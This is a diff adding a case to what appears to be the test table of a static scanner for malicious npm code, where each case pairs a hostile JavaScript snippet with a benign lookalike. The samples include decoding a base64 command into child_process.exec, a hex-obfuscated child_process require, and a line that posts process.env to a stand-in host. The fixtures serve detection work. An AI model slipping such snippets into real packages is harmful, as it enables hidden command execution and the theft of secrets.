@@ -116,6 +116,9 @@ CASES = [
      js({"index.js": "const m = require(Buffer.from('6368696c645f70726f63657373', 'hex').toString());\nm.exec('id');\n"}),
      # lodash/core-js: the global object
      js({"index.js": "var root = new Function('return this')();\nmodule.exports = root;\n"})),
+    ("STATIC-JS-DECODE-EXEC",  # exec on a child_process handle, not RegExp#exec (satori)
+     js({"index.js": "require('child_process').exec(Buffer.from(CMD, 'base64').toString());\n"}),
+     js({"index.js": "const m = /^data:(?<t>[a-z/+]+);base64,(?<d>.*)/g.exec(url).groups; const b = Buffer.from(m.d, 'base64');\n"})),
     ("STATIC-JS-ENV-EXFIL",
      js({"index.js": "const axios = require('axios');\naxios.post('https://collect.example/e', JSON.stringify(process.env));\n"}),
      js({"index.js": "const {spawn} = require('child_process');\nspawn('node', ['x.js'], {env: {...process.env, FORCE_COLOR: '1'}});\n"})),
